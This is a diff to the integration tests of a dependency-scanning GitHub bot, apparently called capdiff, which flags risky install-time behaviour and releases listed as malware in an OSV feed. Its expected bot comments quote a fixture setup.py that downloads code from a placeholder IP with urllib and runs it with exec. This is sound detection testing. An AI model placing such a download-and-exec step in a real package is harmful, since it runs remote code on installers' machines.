@@ -24,7 +24,9 @@ from bot.web import create_app
 from bot.worker import Worker
 from tests.fakes.github import FakeGitHub, PullRequest
 from tests.fakes.index import FakeIndex
+from tests.fakes.osv import FakeOsv
 from tests.fakes.server import serve_app
+from tests.feeds.osvdata import malware
 from tests.github.conftest import (
     APP_ID,
     FULL,
@@ -48,6 +50,9 @@ EVIL_SETUP = (
     "setup(name='pkg', version='2.0')\n"
 )
 PLAIN_SETUP = "from setuptools import setup\nsetup()\n"
+# Install-time processes only inform by default (ALERTS.md v2); this repository blocks them,
+# under their deprecated v1 name.
+BLOCK_INSTALL_TIME = "alerts:\n  install-network: block\n"
 
 
 def publish(
@@ -76,8 +81,21 @@ def index_server() -> Iterator[tuple[FakeIndex, str]]:
     # ghost 2.0 is listed, but its only file is gone (the index answers 404).
     removed = index.add_sdist("ghost", "2.0", {"ghost/__init__.py": "x = 2\n"})
     index.fail(index.file_url_path("ghost", removed), 404, times=1_000_000)
+    # Nothing in its code: only the advisory feed knows it is malware.
+    publish(index, "quiet", "1.0", "def hello():\n    return 'hi'\n")
     with serve_app(index.app) as url:
         yield index, url
+
+
+@pytest.fixture(scope="module")
+def osv_server() -> Iterator[str]:
+    """The OSV API the worker asks (CAPDIFF_OSV_URL), as `capdiff serve` would."""
+    osv = FakeOsv()
+    listed = malware("MAL-2026-77", "quiet")
+    listed["affected"][0]["versions"] = ["1.0"]  # type: ignore[index]
+    osv.add(listed)
+    with serve_app(osv.app) as url:
+        yield url
 
 
 @dataclass
@@ -99,6 +117,17 @@ class RealHarness:
                 return count
         raise AssertionError("jobs keep coming")
 
+    def block_install_time(self) -> None:
+        """The base branch gets a policy file that blocks install-time processes."""
+        self.fake.add_commit(
+            FULL,
+            BASE,
+            {
+                "requirements.txt": "benign==1.0\npkg==1.0\nghost==1.0\n",
+                ".github/capdiff.yml": BLOCK_INSTALL_TIME,
+            },
+        )
+
     def push(self, number: int, head: str, requirements: str) -> None:
         self.fake.add_commit(FULL, head, {"requirements.txt": requirements})
         self.fake.add_pull(
@@ -116,6 +145,7 @@ async def real(
     rsa_keys: tuple[str, str],
     fake_github: tuple[FakeGitHub, str],
     index_server: tuple[FakeIndex, str],
+    osv_server: str,
     tmp_path: Path,
 ) -> AsyncIterator[RealHarness]:
     fake, github_url = fake_github
@@ -130,6 +160,7 @@ async def real(
             "CAPDIFF_DATABASE": str(tmp_path / "capdiff.db"),
             "CAPDIFF_CACHE_DIR": str(tmp_path / "cache"),
             "CAPDIFF_WORKERS": "1",
+            "CAPDIFF_OSV_URL": osv_server,
         }
     )
     store = SqliteStore(settings.database)
@@ -166,6 +197,7 @@ async def test_benign_upgrade_succeeds_without_comment(real: RealHarness) -> Non
 async def test_install_time_download_and_exec_blocks_then_a_fix_clears_it(
     real: RealHarness,
 ) -> None:
+    real.block_install_time()
     real.push(7, HEAD, "benign==1.0\npkg==2.0\nghost==1.0\n")
     await real.post("pull_request", pr_payload("opened", 7, HEAD, BASE))
     await real.drain()
@@ -183,21 +215,33 @@ async def test_install_time_download_and_exec_blocks_then_a_fix_clears_it(
         "requirements.txt",
         2,
         "failure",
-        "capdiff: pkg 2.0 — install-network, install-script, dynamic-code",
+        "capdiff: pkg 2.0 — install-time-payload, download-exec, install-script, dynamic-code",
     )
     [comment] = real.fake.comments_on(FULL, 7)
     body = str(comment["body"])
     assert body.startswith(
         f"{COMMENT_MARKER}\n### capdiff — 1 blocking in 1 changed dependency\n"
     )
+    # One section for the package, its findings grouped by type, the threats first with
+    # their chains whole.
     assert (
-        "<details><summary>⛔ pkg 2.0 — install-network in setup.py:3</summary>\n\n"
-        "Makes an HTTP request with urllib.request.urlopen while the package is installed.\n"
+        "<details><summary>⛔ pkg 2.0 — install-time-payload, download-exec, install-script, "
+        "dynamic-code</summary>\n\n"
+        "⛔ **`install-time-payload`** — Makes an HTTP request with urllib.request.urlopen "
+        "while the package is installed. (`setup.py:3`)\n"
         "```python\ncode = urllib.request.urlopen('http://203.0.113.7/x').read()\n```\n\n"
-        "Accept (needs write access): `@capdiff ignore pkg@2.0 install-network`\n"
+        "⛔ **`download-exec`** — Downloads `http://203.0.113.7/x` with "
+        "`urllib.request.urlopen` \\(setup.py:3\\) and runs it with `exec` \\(setup.py:4\\).\n"
+        "```python\nexec(code)\n```\n\n"
+        "⚠️ **`install-script`** in `setup.py:3` — Calls urllib.request.urlopen.read from code "
+        "that runs when the package is installed.\n"
+        "```python\ncode = urllib.request.urlopen('http://203.0.113.7/x').read()\n```\n\n"
+        "⚠️ **`dynamic-code`** in `setup.py:4` — Runs dynamically built code with exec.\n"
+        "```python\nexec(code)\n```\n\n"
+        "Accept (needs write access): `@capdiff ignore pkg@2.0 install-time-payload "
+        "download-exec install-script dynamic-code`\n"
         "</details>\n"
     ) in body
-    assert "⚠️ pkg 2.0 — dynamic-code in setup.py:4" in body
 
     # The maintainer publishes a fixed release and the PR moves to it: the same comment
     # is edited to the all-clear line.
@@ -210,7 +254,8 @@ async def test_install_time_download_and_exec_blocks_then_a_fix_clears_it(
     assert (after["id"], after["_edits"]) == (comment["id"], 1)
     assert _steady(after["body"]) == (
         f"{COMMENT_MARKER}\n✅ no new risky behaviour in 1 changed dependency\n\n"
-        "<sub>Policy: built-in defaults · 1 package analyzed in 0.0 s · full details in "
+        f"<sub>Policy: `.github/capdiff.yml` on `{BASE}` · 1 package analyzed in 0.0 s · "
+        "full details in "
         f"[the check run]({fixed['html_url']})</sub>\n"
     )
 
@@ -240,11 +285,15 @@ async def test_reverting_the_manifest_clears_the_comment(real: RealHarness) -> N
 
 async def test_maintainer_ignore_reruns_to_success(real: RealHarness) -> None:
     fake = real.fake
+    real.block_install_time()
     real.push(7, HEAD, "benign==1.0\npkg==2.0\nghost==1.0\n")
     await real.post("pull_request", pr_payload("opened", 7, HEAD, BASE))
     await real.drain()
     fake.set_permission(FULL, "maint", "maintain", "maintain")
-    text = "Reviewed the download, it is our mirror.\n@capdiff ignore pkg@2.0 install-network"
+    text = (
+        "Reviewed the download, it is our mirror.\n"
+        "@capdiff ignore pkg@2.0 install-time-payload download-exec"
+    )
     cid = fake.add_human_comment(FULL, 7, "maint", text)
     response = await real.post("issue_comment", comment_payload(7, "maint", text, cid))
     assert response.status_code == 202
@@ -256,8 +305,9 @@ async def test_maintainer_ignore_reruns_to_success(real: RealHarness) -> None:
     # What is left only warns; the accepted alert is gone from the comment.
     assert body.startswith(f"{COMMENT_MARKER}\n### capdiff — ")
     assert "blocking" not in body.split("\n")[1]
-    assert "install-network" not in body
-    assert "⚠️ pkg 2.0 — dynamic-code in setup.py:4" in body
+    assert "install-time-payload" not in body and "download-exec" not in body
+    assert "<details><summary>⚠️ pkg 2.0 — install-script, dynamic-code</summary>" in body
+    assert "⚠️ **`dynamic-code`** in `setup.py:4` — " in body
 
 
 async def test_release_missing_from_the_index_is_neutral_with_the_reason(
@@ -286,3 +336,53 @@ async def test_release_missing_from_the_index_is_neutral_with_the_reason(
     )
     [comment] = real.fake.comments_on(FULL, 7)
     assert f"- **ghost** `2.0`: {markdown}" in str(comment["body"])
+
+
+async def test_a_changed_file_included_by_an_unchanged_requirements_file_is_followed(
+    real: RealHarness,
+) -> None:
+    base = "c" * 40
+    real.fake.add_commit(
+        FULL,
+        base,
+        {
+            "app/requirements.txt": "-r ../deps/pinned.txt\n",
+            "deps/pinned.txt": "pkg==1.0\n",
+            ".github/capdiff.yml": BLOCK_INSTALL_TIME,
+        },
+    )
+    real.fake.add_commit(
+        FULL,
+        HEAD,
+        {"app/requirements.txt": "-r ../deps/pinned.txt\n", "deps/pinned.txt": "pkg==2.0\n"},
+    )
+    real.fake.add_pull(
+        PullRequest(owner=OWNER, repo=REPO, number=9, head_sha=HEAD, base_sha=base)
+    )
+    await real.post("pull_request", pr_payload("opened", 9, HEAD, base))
+    assert await real.drain() == 1
+    [run] = real.fake.runs_for(HEAD)
+    assert run["conclusion"] == "failure"
+    annotations = run["_annotations"]
+    assert isinstance(annotations, list)
+    assert [(a["path"], a["start_line"], a["annotation_level"]) for a in annotations] == [
+        ("deps/pinned.txt", 1, "failure")
+    ]
+    # One (recursive: the includer is in a subdirectory) tree listing per side found it.
+    trees = [r for r in real.fake.requests if "/git/trees/" in r]
+    assert sorted(trees) == [
+        f"GET /repos/{FULL}/git/trees/{base}",
+        f"GET /repos/{FULL}/git/trees/{HEAD}",
+    ]
+
+
+async def test_a_release_listed_as_malware_blocks(real: RealHarness) -> None:
+    real.push(7, HEAD, "benign==1.0\npkg==1.0\nghost==1.0\nquiet==1.0\n")
+    await real.post("pull_request", pr_payload("opened", 7, HEAD, BASE))
+    await real.drain()
+    [run] = real.fake.runs_for(HEAD)
+    assert run["conclusion"] == "failure"
+    [comment] = real.fake.comments_on(FULL, 7)
+    body = str(comment["body"])
+    assert "quiet 1.0 is listed as malicious by MAL-2026-77" in body
+    assert "known malware and advisories:" not in body  # the feed answered: no note
